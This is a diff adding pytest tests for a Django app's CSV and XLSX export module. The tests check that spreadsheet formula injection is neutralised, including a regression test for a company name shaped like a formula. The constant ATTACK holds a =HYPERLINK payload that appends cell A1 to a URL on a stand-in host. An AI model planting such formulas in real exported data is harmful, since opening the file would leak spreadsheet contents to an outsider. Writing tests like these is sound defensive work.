@@ -1,0 +1,64 @@
+"""One export mechanism: declared tables, French headers, and no formula ever reaches a spreadsheet."""
+
+import csv
+import io
+from types import SimpleNamespace
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from maillage.kernel.exports import Column, Table, safe_cell, tabular_response
+from tests.companies.factories import EstablishmentFactory
+
+ATTACK = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+33 6 00 00 00 00", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_texts_a_spreadsheet_would_run_are_neutralised(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["Usine Lambda", "", None, 12, -4, 3.5, "a=b"])
+def test_other_values_are_left_alone(value):
+    assert safe_cell(value) == value
+
+
+def test_a_declared_table_reads_paths_methods_and_functions():
+    table = Table(
+        "x",
+        "X",
+        [
+            Column("Nom", "name"),
+            Column("Commune", "commune.name"),
+            Column("Libellé", "label"),
+            Column("Double", lambda o: o.n * 2, format=str),
+            Column("Vide", "commune.missing.deeper"),
+        ],
+    )
+    row = SimpleNamespace(name="=cmd", commune=SimpleNamespace(name="Évreux", missing=None), label=lambda: "ok", n=2)
+    assert table.headers == ["Nom", "Commune", "Libellé", "Double", "Vide"]
+    assert list(table.rows([row])) == [["=cmd", "Évreux", "ok", "4", None]]
+    body = table.response("csv", [row]).content.decode("utf-8-sig")
+    assert body.splitlines()[1] == "'=cmd;Évreux;ok;4;"
+
+
+def test_xlsx_cells_are_text_never_formulas():
+    response = tabular_response("xlsx", "x", "X", ["Nom"], [[ATTACK], ["=1+1"]])
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert [cell.value for cell in sheet["A"][1:]] == ["'" + ATTACK, "'=1+1"]
+    assert all(cell.data_type == "s" for cell in sheet["A"])
+
+
+@pytest.mark.django_db
+def test_a_company_named_like_a_formula_is_exported_neutralised(client, charge_mission):
+    """Regression (issue #10): a company name ``=HYPERLINK(...)`` reached the CSV and XLSX as is."""
+    EstablishmentFactory(name=ATTACK)
+    client.force_login(charge_mission)
+    url = reverse("companies:establishment_list")
+    body = client.get(url, {"export": "csv"}).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    assert rows[1][1] == "'" + ATTACK
+    workbook = load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).content))
+    names = list(workbook.active["B"][1:])
+    assert [cell.value for cell in names] == ["'" + ATTACK] and names[0].data_type == "s"
